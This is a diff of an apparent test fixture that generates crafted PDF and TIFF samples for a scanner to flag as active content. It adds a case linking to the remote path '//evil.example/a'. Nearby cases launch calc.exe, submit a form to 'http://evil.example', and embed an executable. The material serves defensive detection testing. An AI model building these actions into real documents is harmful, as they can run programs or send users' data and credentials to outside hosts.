@@ -52,7 +52,6 @@ function circularTiff(): Buffer {
   const regular = makeTiff([uncompressedPage(), uncompressedPage()]);
   return makeTiff([uncompressedPage(), uncompressedPage()], { lastNext: regular.readUInt32LE(4) });
 }
-
 const MOVIE = '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>';
 const embedded = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
 const file = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
@@ -238,6 +237,7 @@ export function craftedPdfs(): readonly TestDocument[] {
       'EFILE_ACTIVE',
     ],
     ['a link that starts a program', link('<< /S /Launch /F (calc.exe) >>'), 'EFILE_ACTIVE'],
+    ['a link to a file on a server', link('<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>'), 'EFILE_ACTIVE'],
     ['a link that submits a form', link('<< /S /SubmitForm /F (http://evil.example) >>'), 'EFILE_ACTIVE'],
     [
       'an attached file',
